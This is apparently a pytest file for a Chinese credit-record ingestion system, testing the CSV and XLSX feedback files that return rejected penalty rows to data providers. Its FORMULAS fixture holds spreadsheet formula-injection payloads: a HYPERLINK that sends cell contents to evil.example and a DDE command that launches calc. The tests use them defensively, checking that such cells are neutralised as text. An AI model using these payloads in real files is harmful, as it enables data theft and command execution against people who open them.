"""问题数据反馈: the rejected rows in the provider's own columns, the row number and the reasons."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import sqlalchemy as sa
from python_calamine import CalamineWorkbook

from xinyong.collect.feedback import build_feedback, render, to_csv, to_xlsx
from xinyong.runtime import Runtime
from xinyong.store.tables import rejected_rows

from .conftest import HEADERS, PERSON, H, Ingest, penalty, person_penalty

BAD_ID = PERSON[:-1] + "2"


def _batch(send: Ingest) -> int:
    rows = [
        {**penalty(1), "经办人": "李四"},
        {**penalty(2, cf_nr_fk=None), "经办人": "王五"},
        {**person_penalty(3, xdr_zjhm=BAD_ID), "经办人": "赵六"},
        {**penalty(4, cf_jdrq="2021-13-45", xdr_mc=None), "经办人": None},
    ]
    summary = send(rows)
    assert (summary.inserted, summary.rejected) == (1, 3)
    assert summary.batch_id is not None
    return summary.batch_id


def test_feedback_table(send: Ingest, runtime: Runtime) -> None:
    batch_id = _batch(send)
    with runtime.engine.connect() as conn:
        table = build_feedback(conn, batch_id, runtime)
    assert table.headers == ["行号", *HEADERS, "问题说明"]  # the provider's columns; 经办人 was never stored
    assert [r[0] for r in table.rows] == ["3", "4", "5"]
    by_row = {r[0]: dict(zip(table.headers, r, strict=True)) for r in table.rows}
    assert by_row["3"][H["cf_wsh"]] == "武市监罚〔2026〕2号" and by_row["3"][H["cf_nr_fk"]] == ""
    assert "罚款金额" in by_row["3"]["问题说明"] and "必填" in by_row["3"]["问题说明"]
    assert by_row["4"][H["xdr_zjhm"]] == BAD_ID  # decrypted for the provider who must correct it
    assert "证件号码" in by_row["4"]["问题说明"]
    two = by_row["5"]["问题说明"].split("；")
    assert len(two) == 2 and "行政相对人名称" in two[0] and "2021-13-45" in two[1]


def test_feedback_in_english(send: Ingest, runtime: Runtime) -> None:
    batch_id = _batch(send)
    with runtime.engine.connect() as conn:
        table = build_feedback(conn, batch_id, runtime, lang="en")
    assert table.headers[0] == "Row" and table.headers[-1] == "Problems"
    assert "Fine" in table.rows[0][-1] and "required" in table.rows[0][-1]


def test_csv_is_utf8_with_bom_and_opens_as_the_table(send: Ingest, runtime: Runtime) -> None:
    with runtime.engine.connect() as conn:
        table = build_feedback(conn, _batch(send), runtime)
    data = to_csv(table)
    assert data.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed == [table.headers, *table.rows]


def test_xlsx_holds_the_table_as_text(send: Ingest, runtime: Runtime, tmp_path: Path) -> None:
    with runtime.engine.connect() as conn:
        table = build_feedback(conn, _batch(send), runtime)
    path = tmp_path / "feedback.xlsx"
    path.write_bytes(to_xlsx(table))
    book = CalamineWorkbook.from_path(str(path))
    assert book.sheet_names == ["问题数据", "说明"]
    cells = book.get_sheet_by_name("问题数据").to_python()
    assert cells[0] == table.headers
    assert [[str(c) for c in row] for row in cells[1:]] == table.rows  # "3", not 3.0; ID numbers as text
    assert render(table, "xlsx")[:2] == b"PK"


def test_fixed_rows_sent_back_from_the_feedback_file_close_the_rejections(
    send: Ingest, runtime: Runtime, tmp_path: Path
) -> None:
    batch_id = _batch(send)
    with runtime.engine.connect() as conn:
        table = build_feedback(conn, batch_id, runtime)
    # The clerk fixes the cells in the feedback file itself and sends it back, 行号 and 问题说明 included.
    fixes = {
        "3": {H["cf_nr_fk"]: "2"},
        "4": {H["xdr_zjhm"]: PERSON},
        "5": {H["xdr_mc"]: "某公司", H["cf_jdrq"]: "2026/6/1"},
    }
    rows = []
    for row in table.rows:
        cells = dict(zip(table.headers, row, strict=True))
        cells.update(fixes[row[0]])
        rows.append(cells)
    path = tmp_path / "fixed.csv"
    path.write_bytes(
        to_csv(type(table)(batch=table.batch, headers=table.headers, rows=[list(r.values()) for r in rows]))
    )
    again = send(path)
    assert (again.inserted, again.rejected) == (3, 0)
    assert again.unknown_columns == ["行号", "问题说明"]  # reported, not stored
    with runtime.engine.connect() as conn:
        states = conn.execute(sa.select(rejected_rows.c.status, rejected_rows.c.corrected_by_batch_id)).all()
        assert {tuple(s) for s in states} == {("corrected", again.batch_id)}
        assert build_feedback(conn, batch_id, runtime, status="open").rows == []
        assert len(build_feedback(conn, batch_id, runtime).rows) == 3  # the history stays


FORMULAS = {
    "cf_sy": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "cf_wfxw": "@SUM(1+1)*cmd|' /C calc'!A0",
    "cf_yj": "+1+1",
    "cf_nr": "-2+3",
    "cf_cfjg": "\t=1+1",
}


def _formula_batch(send: Ingest) -> int:
    # Missing 罚款金额 rejects the row, so it comes back in the feedback file with every formula cell.
    summary = send([penalty(1, cf_nr_fk=None, **FORMULAS)])
    assert summary.rejected == 1 and summary.batch_id is not None
    return summary.batch_id


def test_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(send: Ingest, runtime: Runtime) -> None:
    with runtime.engine.connect() as conn:
        table = build_feedback(conn, _formula_batch(send), runtime)
    parsed = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    cells = dict(zip(parsed[0], parsed[1], strict=True))
    for code, value in FORMULAS.items():
        assert cells[H[code]] == "'" + value, code  # shown as text, never evaluated
    assert cells[H["cf_wsh"]] == "武市监罚〔2026〕1号"  # ordinary cells unchanged
    assert not [c for row in parsed for c in row if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_xlsx_writes_formula_like_cells_as_strings(send: Ingest, runtime: Runtime, tmp_path: Path) -> None:
    import zipfile

    with runtime.engine.connect() as conn:
        table = build_feedback(conn, _formula_batch(send), runtime)
    path = tmp_path / "feedback.xlsx"
    path.write_bytes(to_xlsx(table))
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula cell at all
    cells = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("问题数据").to_python()
    row = dict(zip(cells[0], cells[1], strict=True))
    assert row[H["cf_sy"]] == FORMULAS["cf_sy"]  # the provider's text exactly as sent, as a string


def test_problem_texts_name_fields_by_their_headers_never_by_code(send: Ingest, runtime: Runtime) -> None:
    batch_id = _batch(send)
    for lang in ("zh", "en"):
        with runtime.engine.connect() as conn:
            table = build_feedback(conn, batch_id, runtime, lang=lang)  # type: ignore[arg-type]
        reasons = " ".join(r[-1] for r in table.rows)
        assert ("处罚类别" if lang == "zh" else "Penalty") in reasons
        assert not re.search(r"\b(?:cf|xdr|xk|fr)_[a-z0-9_]+", reasons), reasons
